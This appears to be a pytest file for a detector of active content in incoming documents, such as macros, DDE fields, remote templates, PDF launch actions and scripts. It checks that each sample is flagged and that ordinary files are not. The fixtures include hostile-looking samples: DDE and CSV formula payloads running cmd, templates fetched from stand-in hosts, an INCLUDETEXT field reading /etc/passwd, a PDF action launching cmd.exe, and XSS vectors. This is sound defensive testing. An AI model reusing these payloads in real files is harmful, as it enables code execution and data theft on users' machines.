"""What a file carries that a program could run, fetch or unpack is found in every form, and in no ordinary file."""

from __future__ import annotations

import io
import time

import pytest
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, PdfObject, TextStringObject

from dpa_tracker import places
from dpa_tracker.domain.carried import Carried, Risk
from dpa_tracker.queries.carried_words import warning_about
from dpa_tracker.reading.carried import carried_in
from tests.incoming.mutations import OFFICE, SEEDS, docx, packed

OLE = bytes.fromhex("d0cf11e0a1b11ae1")
EXTERNAL = 'TargetMode="External"'
PROGRAM = b"MZ" + bytes(58) + b"\x80\0\0\0" + bytes(60) + b"PE\0\0" + bytes(100)


def tie(kind: str, target: str, mode: str = "") -> str:
    return f'<Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{target}" {mode}/>'


def field(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"<w:p>{begin}{runs}{end}</w:p>"


def pdf_with(action: dict[str, str]) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=100, height=100)
    values = {
        NameObject(key): (NameObject if value[0] == "/" else TextStringObject)(value) for key, value in action.items()
    }
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(values)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_a_file() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=100, height=100)
    writer.add_attachment("invoice.exe", b"MZ")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def page(body: str) -> bytes:
    return f"<!DOCTYPE html><html><head><title>Vilkår</title></head><body>{body}</body></html>".encode()


def pdf_of(key: str, value: PdfObject) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=100, height=100)
    writer.root_object[NameObject(key)] = value
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def sheet(formula: str) -> bytes:
    return packed({"xl/worksheets/sheet1.xml": f"<worksheet><row><c><f>{formula}</f></c></row></worksheet>"})


def odt(marks: str, part: str = "content.xml") -> bytes:
    return packed({"mimetype": "application/vnd.oasis.opendocument.text", part: f"<office:x>{marks}</office:x>"})


def mail(name: str, content: str) -> bytes:
    head = "From: a@acme.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n"
    attached = f"Content-Disposition: attachment; filename={name}\r\n\r\n{content}\r\n--x--\r\n"
    return f"{head}Content-Type: text/plain\r\n\r\nHei\r\n--x\r\nContent-Type: text/html\r\n{attached}".encode()


def chunk(name: str, content: str) -> bytes:
    return docx('<w:altChunk r:id="r9"/>', ties=tie("aFChunk", name), more={f"word/{name}": content})


ELSEWHERE = "http://192.0.2.1/x"
CONNECTED = f'<connections><connection><webPr url="{ELSEWHERE}"/></connection></connections>'
EXTENSION = f'<we:webextension xmlns:we="x"><we:reference id="a" store="{ELSEWHERE}"/></we:webextension>'
URI = DictionaryObject({NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject(ELSEWHERE)})
TO_A_SHARE = DictionaryObject(
    {NameObject("/S"): NameObject("/GoToR"), NameObject("/F"): TextStringObject(r"\\a\x.pdf")}
)
AT_AN_ADDRESS = DictionaryObject({NameObject("/FS"): NameObject("/URL"), NameObject("/F"): TextStringObject(ELSEWHERE)})
XFA_FORM = DictionaryObject({NameObject("/XFA"): TextStringObject("x")})
SVG = '<svg xmlns="http://www.w3.org/2000/svg">{}</svg>'
# What opens or asks by itself, in forms that none of the older lists of this file had.
MORE_FILES: dict[str, tuple[bytes, Risk, str]] = {
    "a page taken into a document": (chunk("c.html", "<html><script>x</script></html>"), Risk.SCRIPT, ""),
    "rich text taken into a document": (chunk("c.rtf", r"{\rt1{\object\objlink}}"), Risk.OBJECT, ""),
    "a picture with a script in a document": (
        docx(more={"word/media/i.svg": SVG.format("<script/>")}),
        Risk.SCRIPT,
        "",
    ),
    "a program of a shop": (docx(more={"word/webextensions/webextension1.xml": EXTENSION}), Risk.FETCHES, ELSEWHERE),
    "a field spelt in numbers": (docx(field(" QUOTE 68 68 69 65 85 84 79 ")), Risk.FIELD, "QUOTE"),
    "a connection of a sheet": (packed({"xl/connections.xml": CONNECTED}), Risk.FETCHES, ELSEWHERE),
    "a query of a sheet": (packed({"customXml/item1.xml": "<DataMashup>AA</DataMashup>"}), Risk.FETCHES, ""),
    "a formula that asks a server": (sheet('_xlfn.WEBSERVICE("x"&amp;A1)'), Risk.FETCHES, "WEBSERVICE"),
    "a formula that asks a program": (sheet('RTD("a.b",,"x")'), Risk.DDE, "RTD"),
    "a DDE formula": (sheet("cmd|'/c calc'!A0"), Risk.DDE, "DDE"),
    "a DDE formula in csv": (b"name;x\n=cmd|'/C calc'!A0;1\n", Risk.DDE, "DDE"),
    "a formula of csv that asks a server": (b'a,"=IMPORTXML(""http://a"";""b"")"\n', Risk.FETCHES, "IMPORTXML"),
    "macros of a sheet in text": (b"ID;P\nNN;NAuto_open;ER1C1\nC;X1;Y1;EEXEC(1)\nE\n", Risk.MACROS, ""),
    "a query in text": (b"WEB\r\n1\r\n" + ELSEWHERE.encode(), Risk.FETCHES, ELSEWHERE),
    "a picture of an open document": (odt(f'<draw:image xlink:href="{ELSEWHERE}"/>'), Risk.FETCHES, ELSEWHERE),
    "a section from a file": (odt('<text:section-source xlink:href="file:///x"/>'), Risk.FETCHES, "file:///x"),
    "a template of an open document": (
        odt(f'<meta:template xlink:href="{ELSEWHERE}"/>', "meta.xml"),
        Risk.TEMPLATE,
        ELSEWHERE,
    ),
    "an event of an open document": (
        odt('<script:event-listener xlink:href="vnd.sun.star.script:x?language=Python"/>'),
        Risk.MACROS,
        "",
    ),
    "a form with scripts in a PDF": (pdf_of("/AcroForm", XFA_FORM), Risk.SCRIPT, ""),
    "a PDF that opens an address": (pdf_of("/OpenAction", URI), Risk.FETCHES, ELSEWHERE),
    "a PDF that opens a share": (pdf_of("/OpenAction", TO_A_SHARE), Risk.FETCHES, r"\\a\x.pdf"),
    "a PDF with content elsewhere": (pdf_of("/X", AT_AN_ADDRESS), Risk.FETCHES, ELSEWHERE),
    "a base elsewhere": (page(f'<base href="{ELSEWHERE}"><img src=a.png>'), Risk.FETCHES, ELSEWHERE),
    "a page in a frame": (page('<iframe srcdoc="&lt;script&gt;x()&lt;/script&gt;">'), Risk.SCRIPT, ""),
    "a mark without a page": (b"<b>x</b> <img src=x onerror=x()>", Risk.SCRIPT, ""),
    "a drawing from elsewhere": (SVG.format(f'<image href="{ELSEWHERE}"/>').encode(), Risk.FETCHES, ELSEWHERE),
    "a style of XML": (
        f'<?xml version="1.0"?><?xml-stylesheet href="{ELSEWHERE}"?><x/>'.encode(),
        Risk.FETCHES,
        ELSEWHERE,
    ),
    "an old Word file in XML": (b'<?xml version="1.0"?><w:wordDocument w:macrosPresent="yes"/>', Risk.MACROS, ""),
    "a field of rich text in pieces": (rb"{\rtf1{\*\fldinst {\b INCLUDE}{PICTURE} x}}", Risk.FIELD, "INCLUDEPICTURE"),
    "a program in a message": (mail("a.exe", "MZ"), Risk.PROGRAM, "a.exe"),
    "a page in a message": (mail("a.html", "<html><script>x</script></html>"), Risk.SCRIPT, ""),
    "a program in an archive": (packed({"letter.pdf.lnk": "x"}), Risk.PROGRAM, "letter.pdf.lnk"),
    "macros in an archive": (packed({"a.docm": docx(more={"word/vbaProject.bin": OLE})}), Risk.MACROS, ""),
    "a message of parts without end": (mail("a", "x") + b"\r\n--x" * 6_000, Risk.UNLOOKED, ""),
}

MACRO_TYPES = '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
DDE_LINK = '<externalLink><ddeLink ddeService="cmd"/></externalLink>'
IN_UTF_16 = '<?xml version="1.0" encoding="UTF-16"?><x w:instr="DDE a"/>'.encode("utf-16")
WITH_MACROS = docx(more={"word/vbaProject.bin": OLE})
FILES: dict[str, tuple[bytes, Risk, str]] = {
    "macros by their part": (WITH_MACROS, Risk.MACROS, ""),
    "macros by the type of the file": (
        packed({"[Content_Types].xml": MACRO_TYPES}),
        Risk.MACROS,
        "",
    ),
    "macros of an open document": (packed({"Basic/Standard/Module1.xml": "<x/>"}), Risk.MACROS, ""),
    "macros of an old sheet": (packed({"xl/macrosheets/sheet1.xml": "<x/>"}), Risk.MACROS, ""),
    "macros of an old file": (OLE + bytes(600) + "_VBA_PROJECT".encode("utf-16-le"), Risk.MACROS, ""),
    "a template elsewhere": (
        docx(ties=tie("attachedTemplate", "https://server.invalid/t.dotm", EXTERNAL)),
        Risk.TEMPLATE,
        "https://server.invalid/t.dotm",
    ),
    "a template whose tie is written in references": (
        docx(
            ties=tie("attachedTemplate", "http://192.0.2.1/t.dotm", EXTERNAL.replace("External", "&#69;xtern&#x61;l"))
        ),
        Risk.TEMPLATE,
        "http://192.0.2.1/t.dotm",
    ),
    "a DDE field written in references": (docx(field("&#68;DE&#x41;UTO x y")), Risk.DDE, "DDEAUTO"),
    "a DDE field in CDATA": (docx(field("<![CDATA[DDEAUTO x y]]>")), Risk.DDE, "DDEAUTO"),
    "a DDE field with a comment in it": (docx(field("DDE<!-- . -->AUTO x y")), Risk.DDE, "DDEAUTO"),
    "an object in rich text": (rb"{\rtf1{\object\objautlink\objupdate{\*\objdata 0105}}}", Risk.OBJECT, ""),
    "a DDE field in rich text": (rb"{\rtf1{\field{\*\fldinst {DDEAUTO cmd}}}}", Risk.DDE, "DDEAUTO"),
    "a template of rich text": (
        rb"{\rtf1{\*\template http://192.0.2.1/t.dotm}}",
        Risk.TEMPLATE,
        "http://192.0.2.1/t.dotm",
    ),
    "a picture elsewhere": (
        docx(ties=tie("image", "file://server/x.png", EXTERNAL)),
        Risk.FETCHES,
        "file://server/x.png",
    ),
    "DDE in one piece": (docx(field(' DDEAUTO c:\\x.exe "/k"')), Risk.DDE, "DDEAUTO"),
    "DDE in pieces": (docx(field("D", "DEA", "UTO x")), Risk.DDE, "DDEAUTO"),
    "DDE in a simple field": (docx('<w:p><w:fldSimple w:instr="dde x y"/></w:p>'), Risk.DDE, "DDE"),
    "DDE of a sheet": (
        packed({"xl/externalLinks/externalLink1.xml": DDE_LINK}),
        Risk.DDE,
        "DDE",
    ),
    "DDE in UTF-16": (
        packed({"word/document.xml": IN_UTF_16}),
        Risk.DDE,
        "DDE",
    ),
    "a field that fetches": (docx(field("INCLUDETEXT /etc/passwd")), Risk.FIELD, "INCLUDETEXT"),
    "an object": (docx(more={"word/embeddings/oleObject1.bin": OLE}), Risk.OBJECT, ""),
    "a program in an object": (docx(more={"word/embeddings/oleObject1.bin": OLE + PROGRAM}), Risk.PROGRAM, ""),
    "a packaged script": (
        docx(more={"word/embeddings/oleObject1.bin": OLE + "\1Ole10Native".encode("utf-16-le") + b"letter.vbs\0"}),
        Risk.PROGRAM,
        "",
    ),
    "a program": (PROGRAM, Risk.PROGRAM, ""),
    "a script in a PDF": (pdf_with({"/S": "/JavaScript", "/JS": "app.alert(1)"}), Risk.SCRIPT, ""),
    "a PDF that launches": (pdf_with({"/S": "/Launch", "/F": "cmd.exe"}), Risk.LAUNCH, "cmd.exe"),
    "a PDF that sends": (pdf_with({"/S": "/SubmitForm", "/F": "http://server.invalid"}), Risk.SENDS, ""),
    "a file in a PDF": (pdf_with_a_file(), Risk.EMBEDDED_FILE, "invoice.exe"),
    "a shortcut of Windows": (b"L\0\0\0\x01\x14\x02\0" + bytes(80), Risk.PROGRAM, ""),
    "a script in a page": (page("<script>x()</script>"), Risk.SCRIPT, ""),
    "a script in a comment": (page("<!--[if IE]><SCRIPT src=x.js></SCRIPT><![endif]-->"), Risk.SCRIPT, ""),
    "a script in UTF-16": (page("<script>x()</script>").decode().encode("utf-16"), Risk.SCRIPT, ""),
    "a script behind an event": (page("<img src=x.png/onerror = x()>"), Risk.SCRIPT, ""),
    "a script behind a mark in quotes": (page("<img alt='>' onerror=x()>"), Risk.SCRIPT, ""),
    "a script in an address": (page('<a href=" java&#115;cript&colon;x()">x</a>'), Risk.SCRIPT, ""),
    "a script in a picture": (b'<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>', Risk.SCRIPT, ""),
    "a program in a page": (b"<hta:application id=x><script language=vbscript>x</script>", Risk.PROGRAM, "HTA"),
    "an object in a page": (page("<embed src=x.swf>"), Risk.OBJECT, ""),
    "a picture from elsewhere in a page": (
        page('<img width=1 src="https://server.invalid/x.gif">'),
        Risk.FETCHES,
        "https://server.invalid/x.gif",
    ),
    "a frame from a share": (page(r"<iframe src='\\192.0.2.1\x'></iframe>"), Risk.FETCHES, r"\\192.0.2.1\x"),
    "a style from elsewhere": (
        page('<link rel="stylesheet" href="//server.invalid/x.css">'),
        Risk.FETCHES,
        "//server.invalid/x.css",
    ),
    "a picture in a style": (
        page("<p style='background:url(http://192.0.2.1/x)'>"),
        Risk.FETCHES,
        "http://192.0.2.1/x",
    ),
    "a page that leads elsewhere": (page('<meta http-equiv="refresh" content="0; url=x">'), Risk.FETCHES, ""),
    "a form that sends": (page("<form action=http://192.0.2.1/>"), Risk.SENDS, "http://192.0.2.1/"),
    "a PDF cut short": (pdf_with({"/S": "/Launch"})[:200], Risk.UNLOOKED, ""),
    "a package cut short": (WITH_MACROS[:300], Risk.UNLOOKED, ""),
}


@pytest.mark.parametrize("name", [*FILES, *MORE_FILES])
def test_what_a_file_carries_is_found(name: str) -> None:
    content, risk, detail = {**FILES, **MORE_FILES}[name]
    found = {one.risk: one.detail for one in carried_in(content)}
    assert found.get(risk) == detail


def test_ordinary_files_carry_nothing() -> None:
    ordinary = [content for files in SEEDS.values() for content in files]
    ordinary += [path.read_bytes() for path in sorted(places.TEMPLATES.glob("*-nb.docx"))[:3]]
    ordinary.append(docx(ties=tie("hyperlink", "https://acme.example/link/dde", EXTERNAL)))
    ordinary.append(docx(field('HYPERLINK "https://acme.example/LINK DDE"') + field("REF import \\h")))
    ordinary.append(
        page('<a href="https://acme.example/terms">Terms on=line, &lt;script&gt; and src=http://a.example</a>')
    )
    ordinary.append(page('<img src="logo.png"><a href="mailto:a@acme.example" title="only = one">Only on request</a>'))
    ordinary.append(b"- Call (toll free) 800|900! Yes\n- exec(ution), -rtd, =1+1;-2,-3\n")
    ordinary.append(odt('<text:a xlink:href="https://acme.example"/><draw:image xlink:href="Pictures/1.png"/>'))
    ordinary.append(odt('<meta:template xlink:href="file:///home/kari/brev.ott"/>', "meta.xml"))
    ordinary.append(sheet("SUM(A1:A9)&amp;IF(B1&gt;2,&quot;a|b&quot;,&quot;!&quot;)"))
    ordinary.append(mail("avtale.txt", "Hei!"))
    ordinary.append(b"A plain text that says onclick= and src=http://a.example")
    assert [carried_in(content) for content in ordinary] == [()] * len(ordinary)


def test_the_warning_says_which_file_and_what_in_words() -> None:
    said = warning_about("avtale.docx", (Carried(Risk.MACROS), Carried(Risk.TEMPLATE, "https://server.invalid/t.dotm")))
    assert said.startswith("avtale.docx: has macros; loads a template from elsewhere")
    assert "https://server.invalid/t.dotm" in said
    assert not warning_about("avtale.docx", ())


def test_a_page_made_to_be_slow_is_looked_through_at_once() -> None:
    slow = (
        b"<html><a " + b" on" * 100_000,
        b"<html>" + b"<a src=" * 100_000,
        b"<html><meta " + b"http-equiv " * 100_000,
        b"<?xml?>" + b"<draw:a " * 20_000,
        b",-a" * 100_000,
    )
    began = time.thread_time()  # of the processor, so that what else goes on does not count
    for content in slow:
        carried_in(content)
    assert time.thread_time() - began < 5
